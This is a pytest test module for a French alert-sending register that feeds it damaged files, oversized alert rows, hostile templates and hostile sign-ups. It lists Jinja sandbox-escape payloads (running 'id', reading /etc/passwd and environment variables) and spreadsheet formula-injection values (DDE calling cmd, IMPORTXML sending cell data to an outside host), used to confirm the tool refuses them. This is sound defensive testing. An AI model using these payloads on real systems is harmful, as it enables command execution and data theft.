"""The register under bad or hostile input: damaged or locked files, absurd alert rows, templates
that try to escape their sandbox, sign-ups that try to plant spreadsheet formulas.

Every case must end with a French message or a French motif on the row, and lose nothing.
"""

from __future__ import annotations

import csv
import hashlib
import json
import sqlite3
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sender import operations, schema
from sender.channels.outbox import OutboxChannel
from sender.cli import main
from sender.config import Settings
from sender.errors import RegisterCorrupt, RegisterUnavailable
from sender.register import sqlite as sqlite_backend
from sender.register.base import Register
from sender.register.sqlite import SQLiteRegister
from sender.runner import Sender
from sender.tables import CellChange
from sender.text import is_formula
from support.emulators.sheets import Cell, SheetsEmulator
from support.scenario import (
    AGENT,
    alert_row,
    prevention_alert,
    quiet_console,
    sheets_register,
    sqlite_register,
)

MEMBERS = 4


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _sender(register: Register, tmp: Path) -> tuple[Sender, Settings]:
    settings = Settings(register=str(tmp / "registre.sqlite"), journal=tmp / "journal.sqlite",
                        outbox=tmp / "outbox.jsonl")
    channel = OutboxChannel(settings.outbox, console=quiet_console(), quiet=True)
    return Sender(register, settings, channel=channel, console=quiet_console(),
                  progress=False), settings


def _sent(settings: Settings) -> list[dict]:
    if not settings.outbox.exists():
        return []
    return [json.loads(line) for line in settings.outbox.read_text(encoding="utf-8").splitlines()]


# -- damaged and locked files -----------------------------------------------------------------


@pytest.fixture
def cli_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for name in ("ALERTE_CANAL", "WHATSAPP_TOKEN", "SMS_API_KEY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("ALERTE_REGISTRE", str(tmp_path / "registre.sqlite"))
    monkeypatch.setenv("ALERTE_JOURNAL", str(tmp_path / "journal.sqlite"))
    monkeypatch.setenv("ALERTE_OUTBOX", str(tmp_path / "outbox.jsonl"))
    return tmp_path


def _foreign_database(path: Path) -> None:
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE clients (nom TEXT, telephone TEXT)")
    conn.execute("INSERT INTO clients VALUES ('Dupont', '0612345678')")
    conn.commit()
    conn.close()


@pytest.mark.parametrize("kind", ["garbage", "truncated", "foreign"])
@pytest.mark.parametrize("command", [["envoyer", "--une-fois"], ["verifier"], ["nettoyer"],
                                     ["exporter", "--onglet", "Inscriptions"]])
def test_damaged_register_gives_a_french_error_and_is_left_untouched(
    cli_env: Path, capsys: pytest.CaptureFixture[str], kind: str, command: list[str]
):
    path = cli_env / "registre.sqlite"
    if kind == "garbage":
        path.write_bytes(b"PK\x03\x04 ceci est un classeur, pas un registre " * 200)
    elif kind == "foreign":
        _foreign_database(path)
    else:
        sqlite_register(path, MEMBERS, alert=prevention_alert()).close()
        path.write_bytes(path.read_bytes()[:1500])  # the header survives, the pages do not
    before = _digest(path)
    code = main(command)
    err = capsys.readouterr().err
    assert code == 1
    assert "Erreur" in err and ("registre" in err or "Registre" in err)
    assert "Traceback" not in err
    assert _digest(path) == before
    assert not (cli_env / "outbox.jsonl").exists()


def test_locked_register_sends_nothing_and_says_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    for name, value in (("_BUSY_TIMEOUT", 0.2), ("_BUSY_TIMEOUT_MS", 200)):  # wait 0.2 s, not 15
        if hasattr(sqlite_backend, name):
            monkeypatch.setattr(sqlite_backend, name, value)
    path = tmp_path / "registre.sqlite"
    sqlite_register(path, MEMBERS, alert=prevention_alert()).close()
    other = sqlite3.connect(path, isolation_level=None)
    other.execute("BEGIN IMMEDIATE")  # another program holds the write lock
    register = SQLiteRegister(path)
    sender, settings = _sender(register, tmp_path)
    try:
        with pytest.raises(RegisterUnavailable) as error:
            sender.run_once()
        assert "verrouillé" in error.value.message
        assert _sent(settings) == []  # « en cours » could not be written: nothing was sent
        other.execute("ROLLBACK")
        other.close()
        sender.run_once()
    finally:
        sender.close()
        register.close()
    check = SQLiteRegister(path)
    assert alert_row(check)["statut"] == schema.DIFFUSEE
    check.close()
    assert len(_sent(settings)) == MEMBERS


def test_damaged_register_error_in_the_sender_api(tmp_path: Path):
    path = tmp_path / "registre.sqlite"
    path.write_bytes(b"\x00" * 4096)
    before = _digest(path)
    sender, _ = _sender(SQLiteRegister(path), tmp_path)
    with pytest.raises(RegisterCorrupt) as error:
        sender.run_once()
    sender.close()
    assert "Rien n'a été modifié" in error.value.message
    assert _digest(path) == before


# -- hostile alert rows -----------------------------------------------------------------------


def _insert_raw(path: Path, rows: list[dict[str, str]]) -> None:
    """Rows as they could arrive from a sheet, without the checks of `append`."""
    conn = sqlite3.connect(path)
    for row in rows:
        columns = ", ".join(f'"{c}"' for c in row)
        marks = ", ".join("?" for _ in row)
        conn.execute(f'INSERT INTO "Alertes" ({columns}) VALUES ({marks})', list(row.values()))
    conn.commit()
    conn.close()


def test_hostile_alert_rows_are_refused_with_french_motifs(tmp_path: Path):
    path = tmp_path / "registre.sqlite"
    sqlite_register(path, MEMBERS).close()
    huge = "A" * 2_000_000
    _insert_raw(path, [
        prevention_alert("10", description=huge),
        prevention_alert("11", commune="x" * 500_000, lieu="=HYPERLINK(\"http://x\")"),
        prevention_alert("12", cible_communes=",".join(["Mende"] * 50_000)),
        prevention_alert("13", agent="G" * 100_000, cible_activites=";".join("a" * 60_000)),
        prevention_alert("14", type="\u202e" * 1000 + "vol", faits_le="9" * 100,
                         signale_le="31/02/2026 25:61"),
        prevention_alert("9" * 5000),  # more digits than int() accepts
        prevention_alert("²"),  # isdigit() but not a number
        {"id": "16", "statut": "à diffuser", "agent": AGENT, "type": "\x00\x1b[2J" * 1000},
    ])
    register = SQLiteRegister(path)
    sender, settings = _sender(register, tmp_path)
    try:
        report = sender.run_once()
    finally:
        sender.close()
    refused = {plan.alert_id[:20]: plan.motif for plan in report.refused}
    for alert_id in ("10", "11", "12", "13", "14", "16", "9" * 20):
        assert alert_id in refused, alert_id
    rows = {r.get("id")[:20]: r for r in register.read([schema.ALERTES])[schema.ALERTES].rows}
    register.close()
    for alert_id in ("10", "11", "12", "13", "14", "16", "9" * 20):
        row = rows[alert_id]
        assert row.get("statut") == schema.REFUSEE
        motif = row.get("motif")
        assert motif and len(motif) <= 5000
        assert not is_formula(motif)
    assert "trop long" in rows["10"].get("motif")
    assert "inconnue" in rows["11"].get("motif")
    assert "Date" in rows["14"].get("motif") or "date" in rows["14"].get("motif")
    assert "trop long" in rows["9" * 20].get("motif")
    assert rows["²"].get("statut") == schema.DIFFUSEE  # a strange id is still an id
    assert {m["alert_id"] for m in _sent(settings)} == {"²"}


# -- hostile templates ------------------------------------------------------------------------

ESCAPES = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].environ }}",
    "{{ self._TemplateReference__context }}",
    "{{ self.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ config.items() }}",
    "{{ request.application.__globals__ }}",
    "{{ description|attr('__class__') }}",
    "{{ description.__class__.__base__.__subclasses__() }}",
    "{% for x in range(100000000) %}{{ x }}{% endfor %}",
    "{% set x = description * 100000000 %}{{ x }}",
    "{{ description * 100000000 }}",
    "{{ (description ~ description)|replace('A', description * 1000) }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}{{ os }}",
    "{% extends '/proc/self/environ' %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{{ [].append }}",
    "{{ 9**9**9 }}",
    "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}",
    "{% if " + "not " * 5000 + "description %}x{% endif %}",
    "{{ description|truncate(10**12) }}",
    "{{ description|replace('', 'x') }}",
    "{{ description|format(1) }}",
    "{{ unknown_variable }}",
]


@pytest.mark.parametrize("source", ESCAPES)
@pytest.mark.parametrize("canal", ["sms", "whatsapp"])
def test_hostile_template_marks_the_row_erreur_without_crashing(
    tmp_path: Path, source: str, canal: str
):
    path = tmp_path / "registre.sqlite"
    register = sqlite_register(path, MEMBERS, alert=prevention_alert(description="A" * 500))
    modeles = register.read([schema.MODELES])[schema.MODELES]
    texte = source if canal == "sms" else f"message: {source}\nservice: {{{{ service }}}}"
    register.write([CellChange(schema.MODELES, row.key, "texte", texte)
                    for row in modeles.rows if row.get("canal") == canal])
    channels = ("sms",) if canal == "sms" else ("whatsapp",)
    sender, settings = _sender(register, tmp_path)
    try:
        if canal == "sms":
            sender.run_once()
        else:  # plan for WhatsApp without needing a token: `verifier`-like snapshot
            snapshot, _ = sender.snapshot(channels=channels)
            plan = snapshot.plans[0]
            assert plan.error and plan.status == schema.REFUSEE
            assert "Modèle" in plan.motif
    finally:
        sender.close()
    if canal == "sms":
        row = alert_row(register)
        assert row["statut"] == schema.ERREUR
        assert row["motif"].startswith("Modèle") and "Modeles" in row["motif"]
        assert _sent(settings) == []
    register.close()


# -- hostile sign-ups -------------------------------------------------------------------------

_STARTS = st.sampled_from(["=", "+", "-", "@", "\t", "\r", " =", "'=", "==", "=+", ""])
_HOSTILE = st.builds(
    lambda start, body: start + body,
    _STARTS,
    st.one_of(
        st.sampled_from([
            "HYPERLINK(\"http://evil.example\";\"clic\")", "cmd|' /C calc'!A0", "1+1",
            "SUM(A1:A9)", "IMPORTXML(CONCAT(\"http://x/?\";A1);\"//a\")", "33612345678",
            "06 12 34 56 78", "DDE(\"cmd\";\"/C calc\";\"A1\")",
        ]),
        st.text(st.characters(blacklist_categories=("Cs",)), max_size=40),
    ),
)


def _write_csv(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), delimiter=";")
        writer.writeheader()
        writer.writerows(rows)


def _assert_no_formula(values: list[list[object]]) -> None:
    for row in values:
        for cell in row:
            assert not isinstance(cell, Cell) or cell.formula is None
            assert not (isinstance(cell, str) and is_formula(cell)), repr(cell)


@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(st.lists(st.fixed_dictionaries({
    "nom": _HOSTILE, "entreprise": _HOSTILE, "activite": _HOSTILE, "commune": _HOSTILE,
    "telephone": _HOSTILE,
}), min_size=1, max_size=6))
@pytest.mark.slow
def test_hostile_signups_never_store_a_formula(rows: list[dict[str, str]]):
    with tempfile.TemporaryDirectory() as directory:
        tmp = Path(directory)
        register = SQLiteRegister(tmp / "registre.sqlite")
        register.initialise()
        _write_csv(tmp / "liste.csv", rows)
        try:
            operations.import_file(register, tmp / "liste.csv")
            operations.clean_register(register)
            register.append(schema.DESINSCRIPTIONS, [{"telephone": r["telephone"]} for r in rows])
            operations.clean_register(register)
        finally:
            register.close()
        conn = sqlite3.connect(tmp / "registre.sqlite")
        try:
            for tab in (schema.INSCRIPTIONS, schema.DESINSCRIPTIONS):
                _assert_no_formula([list(r) for r in conn.execute(f'SELECT * FROM "{tab}"')])
        finally:
            conn.close()


def test_hostile_signups_through_google_sheets_store_no_formula(tmp_path: Path,
                                                                sheets: SheetsEmulator):
    values = ["=1+1", "+HYPERLINK(\"http://x\")", "-2+3", "@SUM(1)", "\t=1", "\r=1",
              "=IMPORTXML(\"http://x\";\"//a\")", "+33612345678", "06 12 34 56 78"]
    rows = [{"nom": v, "entreprise": v, "activite": v, "commune": v, "telephone": v}
            for v in values]
    _write_csv(tmp_path / "liste.csv", rows)
    register, key = sheets_register(sheets)
    register.initialise()
    operations.import_file(register, tmp_path / "liste.csv")
    operations.clean_register(register)
    for tab in (schema.INSCRIPTIONS,):
        with sheets._lock:
            raw = [list(r) for r in sheets.sheet(key, tab).rows]
        _assert_no_formula(raw)
        shown = sheets.values(key, tab)
        assert any("+33612345678" in map(str, r) for r in shown)  # the number stays a number
